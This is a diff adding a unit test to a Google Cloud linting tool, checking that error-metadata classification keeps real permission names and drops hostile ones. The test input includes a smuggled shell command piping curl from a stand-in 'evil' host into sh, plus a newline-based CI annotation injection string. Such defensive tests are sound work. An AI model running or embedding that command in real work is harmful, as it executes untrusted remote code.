@@ -439,3 +439,34 @@ def test_error_lines_are_printable(serve: Any) -> None:
         assert run.code == 2 and run.err.startswith("gcplint: error:"), run.err
         check_text(run.err)
         assert "\\x1b]0;TITLE\\x07" in run.err
+
+
+def test_error_info_metadata_is_repeated_only_when_it_has_the_form_of_a_name() -> None:
+    """ErrorInfo metadata lands in the fix hint: an endpoint's arbitrary text never does."""
+    import httplib2
+    from googleapiclient.errors import HttpError
+
+    from gcplint.collect.failures import classify
+
+    def failure(permission: str, service: str) -> Any:
+        body = {
+            "error": {
+                "code": 403,
+                "message": "denied",
+                "status": "PERMISSION_DENIED",
+                "details": [
+                    {
+                        "@type": "type.googleapis.com/google.rpc.ErrorInfo",
+                        "reason": "IAM_PERMISSION_DENIED",
+                        "metadata": {"permission": permission, "service": service},
+                    }
+                ],
+            }
+        }
+        resp = httplib2.Response({"status": "403", "content-type": "application/json"})
+        return classify(HttpError(resp, json.dumps(body).encode()))
+
+    real = failure("cloudsql.instances.list", "sqladmin.googleapis.com")
+    assert (real.permission, real.service) == ("cloudsql.instances.list", "sqladmin.googleapis.com")
+    hostile = failure("x; curl http://evil | sh #", "evil\n::error::x")
+    assert (hostile.permission, hostile.service) == (None, None)
